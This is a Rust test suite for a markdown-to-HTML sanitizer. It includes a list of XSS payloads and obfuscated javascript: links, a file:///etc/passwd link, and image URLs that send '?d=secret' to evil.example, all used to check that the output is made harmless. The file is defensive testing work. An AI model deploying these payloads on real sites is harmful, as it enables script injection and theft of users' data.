//! What the HTML may hold is read back with a real HTML tokenizer, so that nothing is judged by its looks.

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use proptest::prelude::*;

use super::*;

const PLACE: Place<'static> = Place { heading: 3, prefix: "m", citations: &[1, 2, 12] };

fn draw(text: &str) -> String {
    html(text, PLACE)
}

#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>, RefCell<String>);

impl TokenSink for Tags {
    type Handle = ();
    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.0.borrow_mut().push(tag),
            Token::CharacterTokens(text) => self.1.borrow_mut().push_str(&text),
            Token::CommentToken(_) | Token::DoctypeToken(_) => panic!("a comment or doctype came through"),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn read(html: &str) -> (Vec<Tag>, String) {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    (tokenizer.sink.0.take(), tokenizer.sink.1.take())
}

const ELEMENTS: [&str; 32] = [
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "svg",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "use",
    "path",
    "g",
];
const ATTRIBUTES: [&str; 14] = [
    "aria-hidden",
    "aria-label",
    "class",
    "data-copy-code",
    "hidden",
    "href",
    "rel",
    "role",
    "scope",
    "start",
    "tabindex",
    "target",
    "type",
    "id",
];

/// Only known elements and attributes; links lead to http(s), a path here, or a source; every element is closed.
fn assert_harmless(text: &str) {
    let out = draw(text);
    let (tags, _) = read(&out);
    let mut open = Vec::new();
    for tag in &tags {
        let name = tag.name.to_string();
        assert!(ELEMENTS.contains(&name.as_str()), "<{name}> from {text:?}: {out}");
        for attribute in &tag.attrs {
            let key = attribute.name.local.to_string();
            assert!(ATTRIBUTES.contains(&key.as_str()), "{key}= from {text:?}: {out}");
            if key == "href" {
                let value = attribute.value.to_string();
                let fine =
                    ["http://", "https://", "/", "#src-m-"].iter().any(|start| value.starts_with(start));
                assert!(fine && !value.starts_with("//"), "{value} from {text:?}");
            }
        }
        match tag.kind {
            TagKind::StartTag if matches!(name.as_str(), "br" | "hr" | "use") => {}
            TagKind::StartTag => open.push(name),
            TagKind::EndTag => assert_eq!(open.pop(), Some(name), "{out}"),
        }
    }
    assert!(open.is_empty(), "{open:?} stay open: {out}");
}

const HOSTILE: [&str; 36] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "text <b onmouseover=alert(1)>bold</b>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<style>@import 'http://evil.example'</style>",
    "<base href=http://evil.example>",
    "<form action=http://evil.example><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/\\evil.example)",
    "[x](https://salesforce.com@evil.example/)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](<https://a.example/ onclick=alert(1)>)",
    "<javascript:alert(1)>",
    "![x](http://127.0.0.1:9/?d=secret)",
    "![a](x \"onerror=alert(1)\")",
    "[![x](http://evil.example/i.png)](javascript:alert(1))",
    "```html\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script> | b |\n|---|:-:|\n| <img src=x> | [x](javascript:1) |",
    "[1]: javascript:alert(1)\n\nSee [1] and [x][1].",
    "# <script>alert(1)</script>\n###### [x](data:a)",
];

#[test]
fn hostile_text_comes_out_as_text() {
    for text in HOSTILE {
        assert_harmless(text);
        let out = draw(text).to_lowercase();
        for bad in ["<script", "<img", "<iframe", "<form", " onerror=\"", " onclick=\"", "href=\"java"] {
            assert!(!out.contains(bad), "{bad} from {text:?}: {out}");
        }
    }
}

#[test]
fn hostile_text_is_harmless_at_every_point_where_a_stream_may_be_cut() {
    for text in HOSTILE {
        for (end, _) in text.char_indices() {
            assert_harmless(&text[..end]);
        }
    }
}

#[test]
fn links_show_their_host_and_open_elsewhere() {
    let out = draw("[Salesforce](https://evil.example/login)");
    assert!(out.contains("rel=\"noopener noreferrer nofollow\""), "{out}");
    assert!(out.contains(">Salesforce</a> <span class=\"host\">(evil.example)</span>"), "{out}");
    assert!(draw("[x](https://xn--80ak6aa92e.com)").contains("(xn--80ak6aa92e.com)"));
    assert!(draw("[x](https://аррӏе.com)").contains("(xn--80ak6aa92e.com)"), "look-alikes are spelled out");
    assert_eq!(draw("[here](/w/a/orgs)"), "<p><a href=\"/w/a/orgs\">here</a></p>");
    assert_eq!(draw("[x](mailto:a@b.example)"), "<p>x</p>");
}

#[test]
fn pictures_are_named_and_never_loaded() {
    let out = draw("![chart](http://evil.example/?d=secret)");
    assert_eq!(
        out,
        "<p><span class=\"nopic\">Picture not loaded: chart (http://evil.example/?d=secret)</span></p>"
    );
}

#[test]
fn known_numbers_in_brackets_are_citations() {
    let chip = |n| format!("<a class=\"cite\" href=\"#src-m-{n}\"><span class=\"vh\">Source </span>{n}</a>");
    assert_eq!(
        draw("One[1][12] two [3] [a] [ 1 ]"),
        format!("<p>One{}{} two [3] [a] [ 1 ]</p>", chip(1), chip(12))
    );
    assert_eq!(draw("`[1]`"), "<p><code>[1]</code></p>");
    // A definition in the text can't lead a citation elsewhere.
    assert_eq!(draw("See [1].\n\n[1]: https://evil.example"), format!("<p>See {}.</p>", chip(1)));
    assert!(!draw("[see [1]](https://a.example)").contains("cite"), "no link in a link");
}

#[test]
fn code_is_coloured_with_a_header_and_a_copy_button() {
    let out = draw("```apex\npublic class A {}\n```");
    assert!(out.contains("<div class=\"codeb-h\">apex<button"), "{out}");
    assert!(out.contains("<span class=\"k\">public</span>"), "{out}");
    assert_eq!(read(&out).1, "apexCopypublic class A {}\n");
}

#[test]
fn headings_begin_below_the_pages_own_and_leave_out_no_level() {
    let levels = |text: &str| -> Vec<String> {
        let tags = read(&draw(text)).0;
        tags.iter().filter(|t| t.kind == TagKind::StartTag).map(|t| t.name.to_string()).collect()
    };
    assert_eq!(levels("# A\n## B\n# C\n###### D"), ["h3", "h4", "h3", "h4"]);
}

#[test]
fn tables_keep_their_alignment_without_styles() {
    let out = draw("| a | b |\n|--:|:-:|\n| 1 | 2 |");
    assert!(
        out.contains("<th scope=\"col\" class=\"r\">a</th><th scope=\"col\" class=\"tc\">b</th>"),
        "{out}"
    );
    assert!(out.contains("<td class=\"r\">1</td><td class=\"tc\">2</td>"), "{out}");
}

#[test]
fn marks_that_turn_the_reading_direction_are_seen() {
    assert_eq!(draw("a\u{202E}b\u{7}"), "<p>a\u{FFFD}b\u{FFFD}</p>");
}

#[test]
fn deep_and_long_texts_stay_bounded() {
    for text in ["> ".repeat(20_000), "- ".repeat(20_000), "[".repeat(50_000), "*a ".repeat(50_000)] {
        let out = draw(&text);
        assert!(out.matches("<blockquote>").count() + out.matches("<ul>").count() <= 2 * DEEPEST, "nested");
        assert_harmless(&text);
    }
    let wide = format!("|{}\n|{}\n{}", "a|".repeat(2_000), "-|".repeat(2_000), "|x\n".repeat(20_000));
    assert!(draw(&wide).len() < LARGEST + 64 * 1024);
    let long = "word ".repeat(LONGEST);
    assert!(draw(&long).ends_with("<p>The rest is too long to be shown here.</p>"));
}

#[test]
fn blocks_that_ended_are_handed_out_once_and_whole() {
    let text = "First.\n\n- a\n- b\n\n```apex\nint a;\n\nint b;\n```\n\nLast **bold";
    let mut blocks = Blocks::default();
    let mut done = Vec::new();
    for c in text.chars() {
        done.extend(blocks.push(&c.to_string()));
    }
    assert_eq!(done, ["First.\n\n", "- a\n- b\n\n", "```apex\nint a;\n\nint b;\n```\n\n"]);
    assert_eq!(blocks.rest(), "Last **bold");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn any_text_is_harmless(text in "\\PC{0,200}") {
        assert_harmless(&text);
    }

    #[test]
    fn any_mix_of_hostile_pieces_is_harmless(pieces in prop::collection::vec(
        prop_oneof![
            prop::sample::select(HOSTILE.to_vec()),
            prop::sample::select(vec!["\n", "\n\n", "> ", "- ", "1. ", "    ", "`", "```\n", "**", "_", "[", "](", ")", "|", "\n|-|\n", "<", "\\", "&lt;", "~~", "[1]", "\u{0}", "\r"]),
        ],
        0..24,
    )) {
        assert_harmless(&pieces.concat());
    }

    #[test]
    fn blocks_and_rest_together_are_the_text(pieces in prop::collection::vec("[a-z`#>\\-\\|\\* \n]{0,12}", 0..40)) {
        let mut blocks = Blocks::default();
        let mut seen = String::new();
        for piece in &pieces {
            seen.extend(blocks.push(piece));
        }
        prop_assert_eq!(seen + blocks.rest(), pieces.concat());
    }
}
